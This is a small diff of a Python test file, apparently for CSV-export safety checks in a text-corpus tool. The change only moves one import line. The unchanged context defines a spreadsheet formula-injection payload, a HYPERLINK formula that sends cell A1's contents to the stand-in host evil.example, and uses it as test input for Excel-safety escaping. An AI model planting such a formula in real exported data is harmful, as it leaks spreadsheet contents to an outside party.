@@ -28,8 +28,8 @@ from lkjip.corpus.batch import run_batch  # noqa: E402
 from lkjip.corpus.csv_export import csv_value  # noqa: E402
 from lkjip.corpus.safety import FORMULA_TRIGGERS, excel_safe, is_formula_like  # noqa: E402
 from lkjip.corpus.store import Store  # noqa: E402
-from lkjip.pipeline import extract_report  # noqa: E402
 from lkjip.model import Flag, Report  # noqa: E402
+from lkjip.pipeline import extract_report  # noqa: E402
 
 FAKE = "test_batch_fake:json_extractor"
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
